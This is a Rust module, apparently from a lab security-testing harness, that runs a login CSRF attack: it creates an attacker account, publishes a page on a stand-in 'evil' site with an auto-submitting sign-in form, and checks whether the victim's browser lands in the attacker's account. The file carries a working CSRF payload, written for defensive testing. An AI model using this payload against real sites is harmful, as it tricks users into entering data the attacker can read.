//! A sign-in by another site.

use super::victim::Victim;

use crate::attack::{
    places::EVIL,
    plan::{Attack, Expected, Found, Needs, Tried},
    stage::Stage,
};

pub(in crate::attack) const ATTACK: Attack = Attack {
    id: "login-csrf",
    title: "A sign-in by another site",
    has: "an account of his own, and a page at another site",
    does: "has the browser sign in with it",
    gains: "the victim in the attacker's account, where what he enters is the attacker's to read",
    source: "OWASP CSRF Prevention Cheat Sheet, Login CSRF; CWE-352; F023",
    expected: Expected::EVERYWHERE,
    needs: Needs::Browser,
    run: |stage| Box::pin(run(stage)),
};

async fn run(stage: &Stage) -> Tried {
    let victim = Victim::new(stage).await?;
    let mallory = stage.person("mallory");
    stage.target.sign_up(&mallory).await?;
    for path in ["/signin", "/v1/login"] {
        let action = stage.target.site.url(&format!("{path}?app={}", stage.target.app));
        let html = format!(
            "<form id=f method=post action=\"{action}\"><input name=email value=\"{}\"><input name=password value=\"{}\"></form>\
             <script>f.submit()</script>",
            mallory.email, mallory.password
        );
        victim.is_led_on_by(&stage.lab.places.publish(EVIL, html)).await?;
        if stage.greeted(&victim.page).await? == mallory.email {
            stage.show(&victim.page, "the victim's browser after the visit").await?;
            return Ok(Found::Worked(format!("after a form to {path} the victim is in the attacker's account")));
        }
    }
    victim.found(stage, "two forms").await
}
